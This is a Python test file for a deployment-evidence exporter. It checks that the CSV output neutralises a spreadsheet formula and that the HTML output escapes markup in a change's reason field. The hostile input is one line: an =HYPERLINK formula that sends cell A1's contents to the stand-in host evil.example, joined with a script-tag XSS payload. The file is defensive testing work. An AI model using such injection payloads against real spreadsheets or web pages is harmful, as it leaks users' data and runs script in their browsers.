"""The evidence's CSV and HTML keep hostile text as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from interlock.api.evidence_formats import as_csv, as_html, document
from interlock.audit.chain import Checkpoint, Verification
from interlock.engine.evidence import Change, Evidence

AT = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>'


def _evidence() -> Evidence:
    change = Change(
        deployment=1,
        release=1,
        kind="deploy",
        environment="production",
        started_at=AT,
        finished_at=AT,
        outcome="succeeded",
        error=None,
        reason=HOSTILE,
        tickets=(),
        author="dave",
        on_behalf_of=None,
        artifacts=(),
        gates=(),
        approvals=(),
        overrides=(),
        rolled_back=(),
        findings=(),
        events=(),
    )
    chain = Verification(ok=True, count=3, head=Checkpoint(3, "a" * 64), problems=[])
    return Evidence(("production",), AT, AT, AT, "audrey", (change,), chain, None)


def test_a_reason_is_never_a_formula_in_the_csv():
    [row] = list(csv.DictReader(io.StringIO(as_csv(document(_evidence())))))
    assert row["reason"] == "'" + HOSTILE  # a spreadsheet shows it, does not run it


def test_a_reason_is_never_markup_in_the_html():
    page = as_html(document(_evidence()))
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
